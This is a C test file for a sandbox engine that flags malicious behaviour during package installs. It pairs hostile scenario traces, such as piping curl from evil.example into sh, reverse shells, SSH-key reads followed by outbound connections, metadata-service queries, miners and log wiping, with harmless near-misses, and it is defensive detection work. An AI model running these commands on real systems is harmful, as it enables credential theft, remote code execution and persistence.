/* The rules over short runs: what an attack does, and beside each what comes near it and is none. */
#include "rules_scene.h"

#include "base/utf8.h"
#include "behaviour/risk.h"

#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <cmocka.h>

/* SEVERITY is what RULE says at most; -1: nothing at all. */
struct rule_case {
    const char *story, *rule;
    int severity;
    const char *text;
};

#define EVIL "a package pkg:npm/evil@1.0.0\na at /home/user/app/node_modules/evil\n"
#define BLOCK SP_SEVERITY_BLOCK
#define REVIEW SP_SEVERITY_REVIEW
#define NOTE SP_SEVERITY_NONE
#define NOTHING -1

/* clang-format off */
static const struct rule_case cases[] = {
    /* planted secrets */
    { "a key is read", "run/decoy-read", BLOCK, EVIL "a read /home/user/.ssh/id_ed25519 ssh-key" },
    { "npm's settings are read", "run/decoy-read", NOTE, EVIL "a read /home/user/.npmrc npmrc" },
    { "the package manager itself reads a key", "run/decoy-read", BLOCK, "m manager\nm read /home/user/.ssh/id_ed25519 ssh-key" },
    { "a key, then a connection", "run/decoy-then-sent", BLOCK, EVIL "a read /home/user/.ssh/id_ed25519 ssh-key\na connect 192.0.2.1 443" },
    { "a child sends what its maker read", "run/decoy-then-sent", BLOCK, EVIL "a read /home/user/.ssh/id_ed25519 ssh-key\na fork b\nb exec /usr/bin/curl curl x\nb connect 192.0.2.1 443" },
    { "a maker sends what its child read", "run/decoy-then-sent", BLOCK, EVIL "a fork b\nb read /home/user/.ssh/id_ed25519 ssh-key\na connect 192.0.2.1 443" },
    { "a child that is laid to another package sends", "run/decoy-then-sent", BLOCK, EVIL "a read /home/user/.ssh/id_ed25519 ssh-key\na fork b\nb as pkg:npm/victim@1.0.0\nb connect 192.0.2.1 443" },
    { "a key, then loopback", "run/decoy-then-sent", NOTHING, EVIL "a read /home/user/.ssh/id_ed25519 ssh-key\na connect 127.0.0.1 4873" },
    { "another package sends", "run/decoy-then-sent", NOTHING, EVIL "a read /home/user/.ssh/id_ed25519 ssh-key\nb package pkg:npm/other@1.0.0\nb connect 192.0.2.1 443" },
    { "settings with a token, then a host that nobody allowed", "run/decoy-then-sent", REVIEW, EVIL "a read /home/user/.npmrc npmrc\na outside 192.0.2.1 443 TLS to evil.example" },
    { "settings, then an allowed host", "run/decoy-then-sent", NOTE, EVIL "a read /home/user/.npmrc npmrc\na connect 192.0.2.1 443\na passed cdn.example 443" },
    { "the environment, then a send", "run/environment-dumped", BLOCK, EVIL "a fork b\nb exec /usr/bin/env env\na outside 192.0.2.1 443 POST /" },
    { "/proc/self/environ, then a send", "run/environment-dumped", BLOCK, EVIL "a read /proc/77/environ\na outside 192.0.2.1 443 POST /" },
    { "the environment without a send", "run/environment-dumped", NOTE, EVIL "a exec /usr/bin/printenv printenv" },
    { "one variable", "run/environment-dumped", NOTHING, EVIL "a exec /usr/bin/printenv printenv HOME\na outside 192.0.2.1 443 x" },
    { "env starts a program", "run/environment-dumped", NOTHING, EVIL "a exec /usr/bin/env env A=1 node x.js\na outside 192.0.2.1 443 x" },
    { "a burst of questions, then a send", "run/reconnaissance", BLOCK, EVIL "a exec /usr/bin/whoami whoami\na exec /bin/hostname hostname\na exec /usr/bin/id id\na exec /sbin/ip ip a\na outside 192.0.2.1 80 POST /" },
    { "a burst, then an allowed host", "run/reconnaissance", REVIEW, EVIL "a exec /usr/bin/whoami whoami\na exec /bin/hostname hostname\na exec /usr/bin/id id\na exec /sbin/ip ip a\na passed cdn.example 443" },
    { "seven questions and no send", "run/reconnaissance", REVIEW, EVIL "a exec /usr/bin/whoami whoami\na exec /bin/hostname hostname\na exec /usr/bin/id id\na exec /sbin/ip ip a\na exec /bin/ps ps aux\na exec /bin/netstat netstat\na exec /bin/cat cat /etc/passwd" },
    { "four questions over a minute, then a send", "run/reconnaissance", NOTHING, EVIL "a exec /usr/bin/whoami whoami\nwait 20\na exec /bin/hostname hostname\nwait 20\na exec /usr/bin/id id\nwait 20\na exec /sbin/ip ip a\na outside 192.0.2.1 80 x" },
    { "one question four times", "run/reconnaissance", NOTHING, EVIL "a exec /usr/bin/whoami whoami\na exec /usr/bin/whoami whoami\na exec /usr/bin/whoami whoami\na exec /usr/bin/whoami whoami\na outside 192.0.2.1 80 x" },
    { "Docker's socket", "run/host-socket", BLOCK, EVIL "a unix /var/run/docker.sock" },
    { "an SSH agent", "run/host-socket", BLOCK, EVIL "a unix /tmp/ssh-Xy/agent.12" },
    { "Docker's socket is looked for", "run/host-socket", REVIEW, EVIL "a look /var/run/docker.sock" },
    { "the message bus", "run/host-socket", REVIEW, EVIL "a unix /run/user/1000/bus" },
    { "the name service cache", "run/host-socket", NOTHING, EVIL "a unix /var/run/nscd/socket" },
    { "git of the package manager asks the agent", "run/host-socket", NOTHING, "m manager\nm unix /tmp/ssh-Xy/agent.12" },
    { "the clipboard", "run/clipboard", REVIEW, EVIL "a exec /usr/bin/xclip xclip -o" },
    { "a script called xclip.js", "run/clipboard", NOTHING, EVIL "a exec /usr/bin/node node lib/xclip.js" },
    { "the home is packed", "run/staged", REVIEW, EVIL "a exec /bin/tar tar czf /tmp/x.tgz /home/user" },
    { "documents are zipped", "run/staged", REVIEW, EVIL "a exec /usr/bin/zip zip -r /tmp/x.zip /home/user/Documents" },
    { "the package packs itself", "run/staged", NOTHING, EVIL "a exec /bin/tar tar -czf out.tgz dist lib" },
    { "an archive is unpacked", "run/staged", NOTHING, EVIL "a exec /bin/tar tar xzf /home/user/x.tgz -C /home/user" },

    /* code from elsewhere */
    { "downloaded by node and started", "run/fetched-executed", BLOCK, EVIL "a exec /usr/bin/node node i.js\na connect 192.0.2.1 443\na outside 192.0.2.1 443 TLS to evil.example\na create /tmp/x\na fork b\nb exec /tmp/x /tmp/x" },
    { "curl to a file that a shell opened", "run/fetched-executed", BLOCK, EVIL "a exec /bin/sh sh i.sh\na fork b\nb create /tmp/x\nb exec /usr/bin/curl curl http://evil.example/x\nb outside 192.0.2.1 80 GET /x\na exec /tmp/x /tmp/x" },
    { "downloaded, unpacked, started", "run/fetched-executed", BLOCK, EVIL "a fork b\nb exec /usr/bin/wget wget x\nb outside 192.0.2.1 80 GET /x\nb create /tmp/x.tgz\na fork c\nc exec /bin/tar tar xf /tmp/x.tgz\nc read /tmp/x.tgz\nc create /tmp/d/run\na exec /tmp/d/run run" },
    { "curl piped into tar, then started", "run/fetched-executed", BLOCK, EVIL "a exec /bin/sh sh i.sh\na fork b\nb exec /usr/bin/curl curl x\nb outside 192.0.2.1 80 GET /x\na fork c\nc exec +pipe /bin/tar tar x\nc create /tmp/d/run\na exec /tmp/d/run run" },
    { "downloaded and renamed", "run/fetched-executed", BLOCK, EVIL "a outside 192.0.2.1 80 GET /x\na create /tmp/a\na rename /tmp/a /tmp/b\na exec /tmp/b b" },
    { "downloaded into a directory that is renamed twice", "run/fetched-executed", BLOCK, EVIL "a outside 192.0.2.1 80 GET /x\na create /tmp/d/bin/a\na rename /tmp/d /tmp/e\na rename /tmp/e /tmp/f\na exec /tmp/f/bin/a a" },
    { "a downloaded script", "run/fetched-executed", BLOCK, EVIL "a outside 192.0.2.1 80 GET /x\na create /tmp/x.js\na at /tmp\na exec /usr/bin/node node ./x.js" },
    { "the sinkhole tells later", "run/fetched-executed", BLOCK, EVIL "a connect 192.0.2.1 80\na create /tmp/x\na fork b\nb exec /tmp/x x\na outside 192.0.2.1 80 GET /x" },
    { "a downloaded library is loaded", "run/fetched-executed", BLOCK, EVIL "a outside 192.0.2.1 80 GET /x\na create /tmp/x.node\na code mapped /tmp/x.node" },
    { "downloaded from an allowed host", "run/fetched-executed", REVIEW, EVIL "a connect 192.0.2.1 443\na create /home/user/app/node_modules/evil/bin/x\na passed github.com 443\na exec /home/user/app/node_modules/evil/bin/x x" },
    { "tried to fetch, was not answered, and runs what it wrote", "run/fetched-executed", REVIEW, "unanswered\n" EVIL "a outside 192.0.2.1 80 GET /x\na create /tmp/x\na exec /tmp/x x" },
    { "ran it before it called in vain", "run/fetched-executed", REVIEW, "unanswered\n" EVIL "a connect 192.0.2.1 80\na create /tmp/x\na fork b\nb exec /tmp/x x\na outside 192.0.2.1 80 GET /x" },
    { "a library from an allowed host is loaded", "run/fetched-executed", NOTE, EVIL "a connect 192.0.2.1 443\na create /home/user/app/node_modules/evil/x.node\na passed github.com 443\na code mapped /home/user/app/node_modules/evil/x.node" },
    { "what another process wrote", "run/fetched-executed", NOTHING, EVIL "a outside 192.0.2.1 80 GET /x\na fork b\nb create /tmp/conftest\na exec /tmp/conftest conftest" },
    { "npm writes and the package starts it", "run/fetched-executed", NOTHING, EVIL "m manager\nm connect 192.0.2.1 443\nm create /home/user/app/node_modules/evil/bin/x\na exec /home/user/app/node_modules/evil/bin/x x" },
    { "the project's own script", "run/fetched-executed", REVIEW, "a project\na outside 192.0.2.1 80 GET /x\na create /tmp/x\na exec /tmp/x x" },
    { "a script writes a program to /tmp and starts it", "run/decoded-executed", REVIEW, EVIL "a exec /usr/bin/node node i.js\na create /tmp/.x\na exec /tmp/.x x" },
    { "base64 into a hidden directory", "run/decoded-executed", REVIEW, EVIL "a exec /bin/sh sh -c x\na fork b\nb create /home/user/.cache/.d/x\nb exec /usr/bin/base64 base64 -d\na exec /home/user/.cache/.d/x x" },
    { "and deletes it", "run/decoded-executed", BLOCK, EVIL "a exec /usr/bin/node node i.js\na create /tmp/.x\na fork b\nb exec /tmp/.x x\na unlink /tmp/.x" },
    { "a compiler's program in /tmp", "run/decoded-executed", NOTHING, EVIL "a exec /usr/bin/ld ld -o /tmp/a.out\na create /tmp/a.out\na exec /tmp/a.out a.out\na unlink /tmp/a.out" },
    { "a script within the package", "run/decoded-executed", NOTHING, EVIL "a exec /usr/bin/node node i.js\na create /home/user/app/node_modules/evil/dist/x.js\na exec /usr/bin/node node dist/x.js" },
    { "a generated script in pip's build place", "run/decoded-executed", NOTHING, "a build pkg:pypi/x@1.0\na exec /usr/bin/python3 python3 setup.py\na create /tmp/pip-install-ab/x_1/gen.py\na exec /usr/bin/python3 python3 /tmp/pip-install-ab/x_1/gen.py" },
    { "curl into sh, in words", "run/piped-shell", REVIEW, EVIL "a exec /bin/sh sh -c curl␣-s␣http://evil.example␣|␣sh" },
    { "curl into sh that connects", "run/piped-shell", BLOCK, EVIL "a exec /bin/sh sh -c curl␣-s␣http://evil.example␣|␣sh\na fork b\nb exec /usr/bin/curl curl -s http://evil.example\nb outside 192.0.2.1 80 GET /" },
    { "curl into sh within a script file", "run/piped-shell", BLOCK, EVIL "a exec /bin/sh sh i.sh\na fork b\na fork c\nb exec /usr/bin/curl curl x\nc exec +pipe /bin/sh sh\nb outside 192.0.2.1 80 GET /" },
    { "eval of a download", "run/piped-shell", REVIEW, EVIL "a exec /bin/bash bash -c eval␣\"$(wget␣-qO-␣http://evil.example)\"" },
    { "base64 into sh", "run/piped-shell", REVIEW, EVIL "a exec /bin/sh sh -c echo␣aWQ=␣|␣base64␣-d␣|␣bash" },
    { "an encoded command", "run/piped-shell", REVIEW, EVIL "a exec /usr/bin/pwsh pwsh -enc aWQA" },
    { "eval of base64 in node's words", "run/piped-shell", REVIEW, EVIL "a exec /usr/bin/node node -e eval(Buffer.from('aWQ=','base64').toString())" },
    { "curl into tar", "run/piped-shell", NOTHING, EVIL "a exec /bin/sh sh -c curl␣-s␣http://x␣|␣tar␣xz␣&&␣sh␣build.sh" },
    { "a list piped into a shell", "run/piped-shell", NOTHING, EVIL "a exec /bin/sh sh -c sed␣s/a/b/␣x␣|␣sh" },
    { "node's version in node's words", "run/piped-shell", NOTHING, EVIL "a exec /usr/bin/node node -e console.log(process.version)" },
    { "a reverse shell", "run/shell-socket", BLOCK, EVIL "a exec +socket /bin/sh /bin/sh -i" },
    { "a reverse shell under another name", "run/shell-socket", BLOCK, EVIL "a exec +socket /bin/bash kworker" },
    { "a reverse shell of a plain command", "run/shell-socket", BLOCK, "a command\na exec +socket /usr/bin/python3 python3 -i" },
    { "a shell at a pipe of one who called outside", "run/shell-socket", BLOCK, EVIL "a exec /usr/bin/node node i.js\na connect 192.0.2.1 4444\na fork b\nb exec +pipe /bin/sh sh -i" },
    { "a shell with a script, of one who called outside", "run/shell-socket", NOTHING, EVIL "a exec /usr/bin/node node i.js\na connect 192.0.2.1 443\na fork b\nb exec +pipe /bin/sh sh build.sh" },
    { "a shell at a pipe of one who called nobody", "run/shell-socket", NOTHING, EVIL "a exec /usr/bin/node node i.js\na fork b\nb exec +pipe /bin/sh sh" },
    { "a filter at a socket", "run/shell-socket", NOTHING, EVIL "a exec +socket /bin/gzip gzip" },
    { "a shell at a pipe", "run/shell-socket", NOTHING, EVIL "a exec +pipe /bin/sh sh -c x" },
    { "a program in memory", "run/memory-executed", BLOCK, EVIL "a exec +memory /memfd:x x" },
    { "a deleted program", "run/memory-executed", REVIEW, EVIL "a exec +deleted /tmp/x x" },
    { "a mapped memfd", "run/memory-executed", REVIEW, EVIL "a exec /home/user/x x\na code memory-mapped /memfd:x" },
    { "node compiles", "run/memory-executed", NOTE, EVIL "a exec /usr/bin/node node x.js\na code memory-mapped /memfd:v8" },
    { "a memfd without code", "run/memory-executed", NOTHING, EVIL "a code memfd buffer" },
    { "a miner", "run/miner", BLOCK, EVIL "a exec /tmp/xmrig ./xmrig" },
    { "a miner under another name", "run/miner", BLOCK, EVIL "a exec /tmp/node node -o stratum+tcp://pool.example:3333 -u x" },
    { "a miner's first words", "run/miner", BLOCK, EVIL "a said 192.0.2.1 3333 {\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}" },
    { "a list of miners is searched", "run/miner", NOTHING, EVIL "a exec /bin/grep grep xmrig blocklist.txt" },

    /* what is changed */
    { "node in ~/.local/bin", "run/path-hijack", BLOCK, EVIL "a create /home/user/.local/bin/node" },
    { "git among the project's programs", "run/path-hijack", BLOCK, EVIL "a symlink /home/user/app/node_modules/.bin/git ../evil/x.js" },
    { "renamed to sudo", "run/path-hijack", BLOCK, EVIL "a create /home/user/x\na rename /home/user/x /home/user/bin/sudo" },
    { "npm's own name", "run/path-hijack", NOTHING, "a package pkg:npm/npm@11.0.0\na create /home/user/app/node_modules/.bin/npm" },
    { "npm makes the link", "run/path-hijack", NOTHING, "m manager\nm symlink /home/user/app/node_modules/.bin/npm ../npm/bin" },
    { "node within the package", "run/path-hijack", NOTHING, EVIL "a create /home/user/app/node_modules/evil/bin/node" },
    { "the home's .npmrc", "run/manager-config", BLOCK, EVIL "a write /home/user/.npmrc" },
    { "the project's .npmrc", "run/manager-config", BLOCK, EVIL "a append /home/user/app/.npmrc" },
    { "pip's settings by rename", "run/manager-config", BLOCK, EVIL "a rename /tmp/x /home/user/.config/pip/pip.conf" },
    { "the project writes it", "run/manager-config", REVIEW, "a project\na write /home/user/app/.npmrc" },
    { "npm writes it", "run/manager-config", NOTHING, "m manager\nm write /home/user/.npmrc" },
    { "an .npmrc within the package", "run/manager-config", NOTHING, EVIL "a create /home/user/app/node_modules/evil/fixture/.npmrc" },
    { "an .npmrc in /tmp", "run/manager-config", NOTHING, EVIL "a create /tmp/t/.npmrc" },
    { "it is read", "run/manager-config", NOTHING, EVIL "a read /home/user/.npmrc npmrc" },
    { "a workflow", "run/workflow", BLOCK, EVIL "a create /home/user/app/.github/workflows/x.yml" },
    { "a workflow in another project", "run/workflow", BLOCK, EVIL "a create /home/user/other/.github/workflows/x.yml" },
    { "a workflow within the package", "run/workflow", NOTHING, EVIL "a create /home/user/app/node_modules/evil/.github/workflows/x.yml" },
    { "ld.so.preload", "run/loader", BLOCK, EVIL "a create /etc/ld.so.preload" },
    { "LD_PRELOAD in words", "run/loader", REVIEW, EVIL "a exec /usr/bin/env env LD_PRELOAD=/tmp/x.so node x.js" },
    { "the loader's list is read", "run/loader", NOTHING, EVIL "a read /etc/ld.so.cache\na exec /sbin/ldconfig ldconfig -p" },
    { "an extension", "run/browser", BLOCK, EVIL "a create /home/user/.config/google-chrome/Default/Extensions/x/manifest.json" },
    { "Firefox's profile", "run/browser", BLOCK, EVIL "a write /home/user/.mozilla/firefox/p/prefs.js" },
    { "the browser that the package brings", "run/browser", REVIEW, EVIL "a exec /home/user/x/chrome chrome --version\na create /home/user/.config/chromium/Default/x" },
    { "a profile in /tmp", "run/browser", NOTHING, EVIL "a create /tmp/puppeteer-x/Default/Preferences" },
    { "another package's code", "run/neighbour-rewritten", BLOCK, EVIL "a write /home/user/app/node_modules/victim/index.js" },
    { "another package's manifest by rename", "run/neighbour-rewritten", BLOCK, EVIL "a rename /tmp/x /home/user/app/node_modules/victim/package.json" },
    { "another package's code is deleted", "run/neighbour-rewritten", BLOCK, EVIL "a unlink /home/user/app/node_modules/victim/index.js" },
    { "another package's code within a store", "run/neighbour-rewritten", BLOCK, EVIL "a write /home/user/app/node_modules/.pnpm/victim@1.0.0/node_modules/victim/index.js" },
    { "another package of Python", "run/neighbour-rewritten", BLOCK, "a build pkg:pypi/evil@1.0\na write /home/user/app/.venv/lib/python3.11/site-packages/requests/api.py" },
    { "a sibling of the scope", "run/neighbour-rewritten", REVIEW, "a package pkg:npm/%40x/evil@1.0.0\na write /home/user/app/node_modules/@x/b/index.js" },
    { "nobody knows who", "run/neighbour-rewritten", REVIEW, "a unknown\na write /home/user/app/node_modules/victim/index.js" },
    { "its own code", "run/neighbour-rewritten", NOTHING, EVIL "a write /home/user/app/node_modules/evil/index.js" },
    { "its own code under another name", "run/neighbour-rewritten", NOTHING, "- place /home/user/app/node_modules/alias pkg:npm/evil@1.0.0\n" EVIL "a write /home/user/app/node_modules/alias/index.js" },
    { "a name that another was given", "run/neighbour-rewritten", BLOCK, "- place /home/user/app/node_modules/evil pkg:npm/victim@1.0.0\n" EVIL "a write /home/user/app/node_modules/evil/index.js" },
    { "what it installed itself", "run/neighbour-rewritten", NOTHING, EVIL "a mkdir /home/user/app/node_modules/new\na create /home/user/app/node_modules/new/index.js" },
    { "a shared cache", "run/neighbour-rewritten", NOTHING, EVIL "a create /home/user/app/node_modules/.cache/evil/x.js" },
    { "a picture of another", "run/neighbour-rewritten", NOTHING, EVIL "a write /home/user/app/node_modules/victim/x.png" },
    { "the project patches", "run/neighbour-rewritten", NOTHING, "a project\na write /home/user/app/node_modules/victim/index.js" },
    { "npm moves packages", "run/neighbour-rewritten", NOTHING, "m manager\nm rename /home/user/app/node_modules/a/index.js /home/user/app/node_modules/b/index.js" },
    { "Python keeps what it compiled", "run/neighbour-rewritten", NOTHING, "a load pkg:pypi/x@1.0\na exec /usr/bin/python3.11 python3 -c x\na create /usr/lib/python3/dist-packages/six/__pycache__/six.cpython-311.pyc" },
    { "a start file as it happens", "run/persistence", BLOCK, EVIL "a append /home/user/.bashrc" },
    { "a start file by rename", "run/persistence", BLOCK, EVIL "a create /home/user/x\na rename /home/user/x /home/user/.bashrc" },
    { "a git hook of the project's script", "run/persistence", REVIEW, "a project\na create /home/user/app/.git/hooks/pre-commit" },
    { "git's examples of hooks", "run/persistence", NOTHING, EVIL "a exec /usr/bin/git git init\na create /home/user/app/x/.git/hooks/pre-commit.sample" },
    { "a start file is read", "run/persistence", NOTHING, EVIL "a read /home/user/.bashrc" },
    { "what does not land is told by the landing", "run/write-outside", REVIEW, "- left /home/user/app/x" },
    { "npm publish", "run/publishes", BLOCK, EVIL "a exec /usr/bin/npm npm publish --access public" },
    { "npm publish as node sees it", "run/publishes", BLOCK, EVIL "a exec /usr/bin/node node /usr/lib/node_modules/npm/bin/npm-cli.js publish" },
    { "twine by python -m", "run/publishes", BLOCK, EVIL "a exec /usr/bin/python3 python3 -m twine upload dist/x" },
    { "git push from a directory", "run/publishes", BLOCK, EVIL "a exec /usr/bin/git git -C /home/user/app push origin main" },
    { "GitHub's token", "run/publishes", BLOCK, EVIL "a exec /usr/bin/gh gh auth token" },
    { "npm install", "run/publishes", NOTHING, EVIL "a exec /usr/bin/npm npm install publish" },
    { "git asks for its settings", "run/publishes", NOTHING, EVIL "a exec /usr/bin/git git config push.default" },
    { "the project publishes", "run/publishes", REVIEW, "a project\na exec /usr/bin/npm npm publish" },

    /* hiding */
    { "the history is deleted", "run/log-erased", BLOCK, EVIL "a unlink /home/user/.bash_history" },
    { "the history becomes a link", "run/log-erased", BLOCK, EVIL "a symlink /home/user/.bash_history /dev/null" },
    { "a log is emptied", "run/log-erased", BLOCK, EVIL "a write /var/log/auth.log" },
    { "wtmp is cut", "run/log-erased", BLOCK, EVIL "a truncate /var/log/wtmp" },
    { "history -c", "run/log-erased", BLOCK, EVIL "a exec /bin/bash bash -c history␣-c" },
    { "a log grows", "run/log-erased", NOTHING, EVIL "a append /var/log/x.log" },
    { "a log of its own", "run/log-erased", NOTHING, EVIL "a write /home/user/app/node_modules/evil/build.log" },
    { "a script deletes itself", "run/self-deleted", REVIEW, EVIL "a exec /usr/bin/node node setup.js\na unlink /home/user/app/node_modules/evil/setup.js" },
    { "rm deletes the script that calls it", "run/self-deleted", REVIEW, EVIL "a exec /bin/sh sh ./i.sh\na fork b\nb exec /bin/rm rm i.sh\nb unlink /home/user/app/node_modules/evil/i.sh" },
    { "a test program is deleted once it ended", "run/self-deleted", NOTHING, EVIL "a exec /bin/sh sh configure\na fork b\nb exec /home/user/app/conftest conftest\nb exit\na fork c\nc unlink /home/user/app/conftest" },
    { "named as a thread of the kernel", "run/renamed", BLOCK, EVIL "a exec /tmp/x [kworker/0:1]" },
    { "renames itself to sshd", "run/renamed", BLOCK, EVIL "a exec /tmp/x x\na code renamed sshd" },
    { "sshd is sshd", "run/renamed", NOTHING, EVIL "a exec /usr/sbin/sshd sshd -T\na code renamed sshd" },
    { "test is called [", "run/renamed", NOTHING, EVIL "a exec /usr/bin/[ [ -f x ]" },
    { "a thread of node", "run/renamed", NOTHING, EVIL "a code renamed libuv-worker" },
    { "looks and leaves", "run/sandbox-check", REVIEW, EVIL "a look /.dockerenv\na exit" },
    { "asks what machine it is and leaves", "run/sandbox-check", REVIEW, EVIL "a fork b\nb exec /usr/bin/systemd-detect-virt systemd-detect-virt\nb exit\na exit" },
    { "looks for a tracer twice and leaves", "run/sandbox-check", NOTHING, EVIL "a read /proc/9/status\na read /proc/8/status\na exit" },
    { "looks and goes on", "run/sandbox-check", NOTHING, EVIL "a look /.dockerenv\na create /home/user/app/node_modules/evil/x\na exit" },
    { "looks and leaves later", "run/sandbox-check", NOTHING, EVIL "a look /.dockerenv\nwait 5\na exit" },
    { "reads its own status once", "run/sandbox-check", NOTHING, EVIL "a read /proc/9/status\na exit" },
    { "sleeps for five minutes", "run/long-sleep", REVIEW, EVIL "a slept 300000 1" },
    { "sleeps often and shortly", "run/long-sleep", NOTHING, EVIL "a slept 300000 30000" },
    { "sleeps for ten seconds", "run/long-sleep", NOTHING, EVIL "a slept 10000 1" },
    { "writes into another process", "run/other-process", BLOCK, EVIL "a code ptrace 12 PTRACE_POKETEXT" },
    { "writes by process_vm_writev", "run/other-process", BLOCK, EVIL "a code ptrace 12 process_vm_writev" },
    { "looks for a debugger", "run/other-process", REVIEW, EVIL "a code ptrace 0 PTRACE_TRACEME" },
    { "a mapped library is no trace", "run/other-process", NOTHING, EVIL "a code mapped /usr/lib/libc.so.6" },
    { "a 32-bit call", "run/foreign-call", REVIEW, EVIL "a code foreign i386" },
    { "node tries io_uring", "run/foreign-call", NOTE, EVIL "a exec /usr/bin/node node x.js\na code foreign io_uring_setup" },
    { "a storm", "run/fork-storm", REVIEW, EVIL "a forks 600" },
    { "as many one after the other", "run/fork-storm", NOTHING, EVIL "a forks-ended 600" },
    { "a parallel build", "run/fork-storm", NOTHING, EVIL "a forks 200" },

    /* network */
    { "asks for the machine's credentials", "run/metadata-service", BLOCK, EVIL "a outside 169.254.169.254 80 GET /latest/meta-data/" },
    { "asks by name", "run/metadata-service", BLOCK, EVIL "a outside metadata.google.internal 80 GET /" },
    { "another address of the link", "run/metadata-service", NOTHING, EVIL "a outside 169.254.10.1 80 GET /" },
    { "deletes a key", "run/secret-destroyed", BLOCK, EVIL "a unlink /home/user/.ssh/id_ed25519" },
    { "empties a key", "run/secret-destroyed", BLOCK, EVIL "a create /home/user/.ssh/id_ed25519" },
    { "deletes npm's settings", "run/secret-destroyed", NOTHING, EVIL "a unlink /home/user/.npmrc" },
    { "deletes a file of its own", "run/secret-destroyed", NOTHING, EVIL "a unlink /home/user/.ssh/id_of_mine" },
    { "posts to a bare address", "run/data-sent", BLOCK, EVIL "a outside 192.0.2.1 80 POST /collect HTTP/1.1, Host x" },
    { "talks in its own way", "run/data-sent", BLOCK, EVIL "a outside 192.0.2.1 4444 uid=0(root)" },
    { "posts to a name", "run/data-sent", REVIEW, EVIL "a outside telemetry.example 443 POST https://telemetry.example/v1" },
    { "sends a datagram", "run/data-sent", REVIEW, EVIL "a datagram 192.0.2.1 9999 hello" },
    { "opens a web socket", "run/data-sent", REVIEW, EVIL "a said 192.0.2.1 80 GET /s HTTP/1.1 Upgrade: websocket" },
    { "downloads", "run/data-sent", NOTHING, EVIL "a outside 192.0.2.1 80 GET /x HTTP/1.1, Host x\na outside github.com 443 TLS to github.com" },
    { "connects and keeps silent", "run/data-sent", NOTHING, EVIL "a outside 192.0.2.1 4444 nothing was said" },
    { "asks what time it is", "run/data-sent", NOTHING, EVIL "a datagram 192.0.2.1 123 x" },
    { "talks to itself", "run/data-sent", NOTHING, EVIL "a outside 127.0.0.1 8080 POST /x" },
    { "waits for callers", "run/listen", BLOCK, EVIL "a listen 0.0.0.0 4444" },
    { "a server for itself", "run/listen", REVIEW, EVIL "a listen 127.0.0.1 4444" },
    { "a module that serves when loaded", "run/listen", REVIEW, "a load pkg:npm/evil@1.0.0\na listen 0.0.0.0 4444" },
    { "binds to be found", "run/listen", BLOCK, EVIL "a bind tcp 0.0.0.0 4444" },
    { "a client's bind", "run/listen", NOTHING, EVIL "a bind udp 0.0.0.0 0" },
    { "npm's own server", "run/listen", NOTHING, "m manager\nm listen 127.0.0.1 4444" },
    { "listens to the wire", "run/raw-socket", REVIEW, EVIL "a socket packet" },
    { "asks the kernel for its addresses", "run/raw-socket", NOTHING, EVIL "a socket netlink" },
};
/* clang-format on */

static int
most_of(const struct sp_verdict *verdict, const char *rule, const struct sp_finding **which)
{
    int most = NOTHING;
    for (size_t i = 0; i < verdict->count; i++)
        if (!strcmp(verdict->findings[i].rule, rule) && (int)verdict->findings[i].severity > most) {
            most = (int)verdict->findings[i].severity;
            *which = &verdict->findings[i];
        }
    return most;
}

static void
acts_are_judged_by_what_came_before(void **state SP_UNUSED)
{
    int wrong = 0;
    for (size_t i = 0; i < SP_COUNT(cases); i++) {
        const struct rule_case *c = &cases[i];
        sp_autoverdict struct sp_verdict verdict = { 0 };
        const struct sp_finding *finding = NULL;
        scene_play(c->text, NULL, &verdict);
        int severity = most_of(&verdict, c->rule, &finding);
        if (severity != c->severity) {
            print_message("%s: %s says %s\n", c->story, c->rule,
                          severity < 0 ? "nothing" : sp_severity_name((enum sp_severity)severity));
            wrong++;
        }
        for (size_t f = 0; f < verdict.count; f++)
            if (!*verdict.findings[f].message || strchr(verdict.findings[f].message, '\n') ||
                !strcmp(verdict.findings[f].message, verdict.findings[f].rule))
                fail_msg("%s: %s has no message", c->story, verdict.findings[f].rule);
    }
    assert_int_equal(wrong, 0);
}

/* Those of single events without a process are in test_behaviour.c. */
static bool
is_of_one_event(const char *rule)
{
    static const char *const ids[] = { "run/canary-sent", "run/connection", "run/name-lookup",  "run/request",
                                       "run/digest",      "run/limit",      "run/write-outside" };
    for (size_t i = 0; i < SP_COUNT(ids); i++)
        if (!strcmp(rule, ids[i]))
            return true;
    return false;
}

static void
every_rule_has_a_case_at_its_severity_and_one_below(void **state SP_UNUSED)
{
    assert_true(sp_rule_count >= 24);
    for (size_t r = 0; r < sp_rule_count; r++) {
        bool at = false, below = false;
        for (size_t i = 0; i < SP_COUNT(cases); i++)
            if (!strcmp(cases[i].rule, sp_rules[r]->id)) {
                at |= cases[i].severity == (int)sp_rules[r]->severity;
                below |= cases[i].severity < (int)sp_rules[r]->severity;
            }
        if (!is_of_one_event(sp_rules[r]->id) && !(at && below))
            fail_msg("%s: has no case %s", sp_rules[r]->id, at ? "below" : "at its severity");
    }
}

static void
a_change_is_told_once(void **state SP_UNUSED)
{
    static const char *const places[] = { ".bashrc", ".npmrc", ".github/workflows/x.yml", ".mozilla/x",
                                          ".local/bin/node" };
    for (size_t i = 0; i < SP_COUNT(places); i++) {
        sp_autoverdict struct sp_verdict verdict = { 0 };
        char text[512];
        snprintf(text, sizeof(text),
                 EVIL "a create /home/user/%s\na append /home/user/%s\n- left /home/user/%s\n", places[i],
                 places[i], places[i]);
        assert_int_equal(scene_play(text, NULL, &verdict), SP_SEVERITY_BLOCK);
        if (verdict.count != 1)
            fail_msg("%s: %zu findings", places[i], verdict.count);
    }
}

static void
allowed_writes_are_no_findings(void **state SP_UNUSED)
{
    static const char *const allowed[] = { "/home/user/.bashrc", "/home/user/.local/bin",
                                           "/home/user/app/.npmrc", NULL };
    sp_autoverdict struct sp_verdict verdict = { 0 };
    scene_play(EVIL "a append /home/user/.bashrc\na create /home/user/.local/bin/node\na write "
                    "/home/user/app/.npmrc\n",
               allowed, &verdict);
    assert_int_equal(verdict.count, 0);
}

static void
a_finding_says_who_when_and_what(void **state SP_UNUSED)
{
    sp_autoverdict struct sp_verdict verdict = { 0 };
    scene_play(EVIL "a exec /bin/sh sh -c x␣\x1b[31m\na append /home/user/.bashrc\n", NULL, &verdict);
    assert_int_equal(verdict.count, 1);
    const struct sp_finding *f = &verdict.findings[0];
    assert_string_equal(f->rule, "run/persistence");
    assert_string_equal(f->name, "evil");
    assert_string_equal(f->phase, "install");
    assert_string_equal(f->subject, "/home/user/.bashrc");
